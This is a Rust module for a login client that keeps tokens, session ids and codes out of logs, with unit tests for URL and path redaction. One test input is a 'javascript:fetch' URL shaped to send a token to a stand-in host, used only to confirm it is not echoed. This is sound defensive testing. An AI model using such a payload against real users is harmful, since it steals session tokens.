//! Secret values and log redaction: tokens, refresh tokens, codes and cookies never print.

use std::fmt;

use serde::{Deserialize, Deserializer, Serialize, Serializer};
use url::Url;

/// A value that must never reach a log. `Debug` and `Display` print `<redacted>`;
/// the only way out is [`Secret::expose`], which makes every use greppable.
#[derive(Clone, PartialEq, Eq, Default)]
pub struct Secret<T>(T);

impl<T> Secret<T> {
    pub fn new(value: T) -> Self {
        Secret(value)
    }

    pub fn expose(&self) -> &T {
        &self.0
    }

    pub fn into_inner(self) -> T {
        self.0
    }
}

impl Secret<String> {
    /// Whether two secrets are equal, in time that depends on their lengths only (never on
    /// where they differ): a guess compared with a held password learns nothing from timing.
    pub fn same_as(&self, other: &Secret<String>) -> bool {
        let (a, b) = (self.0.as_bytes(), other.0.as_bytes());
        let mut diff = u8::from(a.len() != b.len());
        for i in 0..a.len().max(b.len()) {
            let x = a.get(i).copied().unwrap_or(0);
            let y = b.get(i).copied().unwrap_or(0);
            diff |= std::hint::black_box(x ^ y);
        }
        diff == 0
    }
}

impl<T> fmt::Debug for Secret<T> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str("<redacted>")
    }
}

impl<T> fmt::Display for Secret<T> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str("<redacted>")
    }
}

impl<T> From<T> for Secret<T> {
    fn from(value: T) -> Self {
        Secret(value)
    }
}

// Serialising a secret is deliberate (token JSON on stdout, the pipe); deserialising wraps at once.
impl<T: Serialize> Serialize for Secret<T> {
    fn serialize<S: Serializer>(&self, s: S) -> Result<S::Ok, S::Error> {
        self.0.serialize(s)
    }
}

impl<'de, T: Deserialize<'de>> Deserialize<'de> for Secret<T> {
    fn deserialize<D: Deserializer<'de>>(d: D) -> Result<Self, D::Error> {
        T::deserialize(d).map(Secret)
    }
}

/// Query keys whose values are shown in logs. Every other value is redacted: IdPs carry
/// their own transaction and session handles in URLs (`stateToken`, `flowToken`, `ctx`, `txn`…),
/// and a list of known secret names would always be one short.
const PUBLIC_KEYS: &[&str] = &[
    "cc_username",
    "return_refresh_token",
    "return_user",
    "client_id",
    "response_type",
    "redirect_uri",
    "scope",
    "error",
    "error_description",
];

/// Whether a query key's value may appear in a log.
pub fn is_public_key(key: &str) -> bool {
    let key = key.to_ascii_lowercase();
    PUBLIC_KEYS.contains(&key.as_str())
}

/// A URL fit for a log line: no userinfo, query values replaced by `<redacted>` unless
/// [`is_public_key`], no fragment (OAuth implicit flows put tokens there), and a path whose
/// parameters (`;jsessionid=…`) and credential-like segments are redacted ([`path`]).
pub fn url(url: &Url) -> String {
    // `data:`, `javascript:`, `blob:`… carry their payload in an opaque path (a data URL can
    // hold a whole token answer): show the scheme and the size only.
    if url.cannot_be_a_base() || url.scheme() == "blob" {
        return format!("{}:<{} bytes>", url.scheme(), url.as_str().len());
    }
    let mut u = url.clone();
    let _ = u.set_username("");
    let _ = u.set_password(None);
    u.set_fragment(None);
    if u.query().is_some() {
        let pairs: Vec<(String, String)> = url
            .query_pairs()
            .map(|(k, v)| {
                let v = if is_public_key(&k) {
                    v.into_owned()
                } else {
                    "<redacted>".to_string()
                };
                (k.into_owned(), v)
            })
            .collect();
        u.query_pairs_mut().clear().extend_pairs(pairs);
    }
    format!(
        "{}{}{}",
        &u[..url::Position::BeforePath],
        path(u.path()),
        &u[url::Position::AfterPath..]
    )
}

/// A URL path fit for a log line: the plain segments stay (`/desktop/sso/token`), path
/// parameters keep their names only (Tomcat's `;jsessionid=<redacted>`, which is a session),
/// and a segment that looks like a credential ([`looks_like_credential`]) becomes `<redacted>`.
pub fn path(p: &str) -> String {
    p.split('/')
        .map(|seg| {
            let (name, params) = match seg.split_once(';') {
                Some((n, rest)) => (n, Some(rest)),
                None => (seg, None),
            };
            let mut out = if looks_like_credential(name) {
                "<redacted>".to_string()
            } else {
                name.to_string()
            };
            for param in params.into_iter().flat_map(|r| r.split(';')) {
                match param.split_once('=') {
                    Some((k, _)) if !looks_like_credential(k) => {
                        out.push_str(&format!(";{k}=<redacted>"));
                    }
                    _ => out.push_str(";<redacted>"),
                }
            }
            out
        })
        .collect::<Vec<_>>()
        .join("/")
}

/// Whether one path segment looks like a token, session id or code rather than a name: a
/// JWT/JWE (dot-separated base64url parts, or `eyJ…`, base64 of `{"`), or a long run of
/// token characters with both letters and digits, or one random enough that no word is that
/// long and mixed (Shannon entropy over 4 bits a character).
pub fn looks_like_credential(seg: &str) -> bool {
    let token_chars = seg
        .bytes()
        .all(|b| b.is_ascii_alphanumeric() || b"-_.~+=%".contains(&b));
    if !token_chars || seg.len() < 16 {
        return false;
    }
    let parts: Vec<&str> = seg.split('.').collect();
    let jwt_like = parts.len() >= 3 && parts.iter().take(2).all(|p| p.len() >= 4);
    if jwt_like || seg.starts_with("eyJ") || seg.len() >= 48 {
        return true;
    }
    let digits = seg.bytes().filter(u8::is_ascii_digit).count();
    let letters = seg.bytes().filter(u8::is_ascii_alphabetic).count();
    (digits >= 3 && letters >= 3) || (seg.len() >= 24 && entropy(seg) > 4.0)
}

/// Shannon entropy of the bytes of `s`, in bits per byte.
fn entropy(s: &str) -> f64 {
    let mut counts = [0u32; 256];
    for b in s.bytes() {
        counts[b as usize] += 1;
    }
    let n = s.len() as f64;
    counts
        .iter()
        .filter(|&&c| c > 0)
        .map(|&c| {
            let p = f64::from(c) / n;
            -p * p.log2()
        })
        .sum()
}

/// Like [`url()`] for a string that may not parse; unparsable input is cut to its scheme.
pub fn url_str(s: &str) -> String {
    match Url::parse(s) {
        Ok(u) => url(&u),
        Err(_) => format!("<unparsable url of {} bytes>", s.len()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn secrets_compare_whole() {
        let s = |v: &str| Secret::new(v.to_string());
        assert!(s("pw-n").same_as(&s("pw-n")));
        assert!(s("").same_as(&s("")));
        for other in ["pw-m", "pw-", "pw-nn", "", "PW-N"] {
            assert!(!s("pw-n").same_as(&s(other)), "{other:?}");
        }
        // A prefix padded with NULs is not the secret either.
        assert!(!s("pw").same_as(&s("pw\0")));
    }

    #[test]
    fn secret_never_formats_its_value() {
        let s = Secret::new("eyJhbGciOi.secret".to_string());
        assert_eq!(format!("{s:?} {s}"), "<redacted> <redacted>");
        assert_eq!(s.expose(), "eyJhbGciOi.secret");
        assert_eq!(serde_json::to_string(&s).unwrap(), "\"eyJhbGciOi.secret\"");
    }

    /// Found by tests/it/hostile.rs (`--forge data-redirect`): a refused `data:` URL holding a
    /// token-shaped JSON was quoted whole in the refusal message.
    #[test]
    fn opaque_urls_show_only_their_scheme_and_size() {
        for s in [
            "data:application/json,%7B%22token%22%3A%22eyJsecret%22%7D",
            "javascript:fetch('//x/?t='+eyJsecret)",
            "blob:https://idp.example/eyJsecret",
        ] {
            let r = url_str(s);
            assert!(!r.contains("eyJsecret"), "{r}");
            assert!(r.ends_with(" bytes>"), "{r}");
        }
    }

    #[test]
    fn url_redaction_hides_codes_tokens_and_userinfo() {
        let u = Url::parse(
            "https://bob:pw@f.example:8445/desktop/sso/authcode?code=abc123&state=xyz&cc_username=agent1#access_token=t",
        )
        .unwrap();
        let r = url(&u);
        assert!(
            !r.contains("abc123") && !r.contains("xyz") && !r.contains("pw"),
            "{r}"
        );
        assert!(!r.contains("access_token=t"), "{r}");
        assert!(r.contains("cc_username=agent1"), "{r}");
        assert!(r.contains("code=%3Credacted%3E"), "{r}");
    }

    /// Found by tests/it/secrets.rs: the emulated IdP's login transaction id (`txn`) reached
    /// `-vv` logs; real IdPs have the like (`stateToken`, `flowToken`), so values are hidden
    /// unless known to be harmless.
    #[test]
    fn unknown_query_values_are_redacted() {
        let r = url_str(
            "https://idp.example/login?txn=5c04b7&stateToken=00abc&client_id=finesse&scope=openid",
        );
        assert!(!r.contains("5c04b7") && !r.contains("00abc"), "{r}");
        assert!(r.contains("txn=") && r.contains("stateToken="), "{r}");
        assert!(
            r.contains("client_id=finesse") && r.contains("scope=openid"),
            "{r}"
        );
    }

    /// Found by the security review: Tomcat-based IdS and Finesse put the session in the path
    /// (`;jsessionid=…`), and some IdPs put tokens in path segments; both reached warn logs.
    #[test]
    fn path_parameters_and_credential_segments_are_redacted() {
        let cases = [
            (
                "https://ids.example:8553/ids/v1/oauth/authorize;jsessionid=7F3A9C0B12D4E5F6A7B8C9D0E1F2A3B4?client_id=finesse",
                "https://ids.example:8553/ids/v1/oauth/authorize;jsessionid=<redacted>?client_id=finesse",
            ),
            (
                "https://f.example:8445/desktop;JSESSIONID=abc;other=1/sso/token",
                "https://f.example:8445/desktop;JSESSIONID=<redacted>;other=<redacted>/sso/token",
            ),
            (
                "https://f.example:8445/desktop/sso/token/eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJ4In0.c2lnbmF0dXJl",
                "https://f.example:8445/desktop/sso/token/<redacted>",
            ),
            (
                "https://idp.example/session/5c04b7e2a9f14d0c8b3e6f7a1d2c9e0b/continue",
                "https://idp.example/session/<redacted>/continue",
            ),
            (
                "https://idp.example/sso/QmFzZTY0VG9rZW5XaXRob3V0TnVtYmVyc0hlcmVBdEFsbA/next",
                "https://idp.example/sso/<redacted>/next",
            ),
            (
                "https://idp.example/app/6f1c2d3e-4b5a-4c7d-8e9f-0a1b2c3d4e5f/sso/saml",
                "https://idp.example/app/<redacted>/sso/saml",
            ),
        ];
        for (raw, want) in cases {
            assert_eq!(url_str(raw), want, "{raw}");
        }
        // Plain paths stay readable, long words included.
        for plain in [
            "https://f.example:8445/desktop/sso/token?cc_username=agent1",
            "https://idp.example/adfs/ls/AssertionConsumerService",
            "https://ids.example:8553/ids/saml/response/saml2-post-binding",
            "https://idp.example/realms/contact-center/protocol/saml",
            "https://f.example:8445/finesse/api/UserAuthMode/agent1",
        ] {
            assert_eq!(url_str(plain), plain);
        }
    }

    #[test]
    fn unparsable_url_is_not_echoed() {
        assert!(!url_str("not a url with secret").contains("secret"));
    }
}
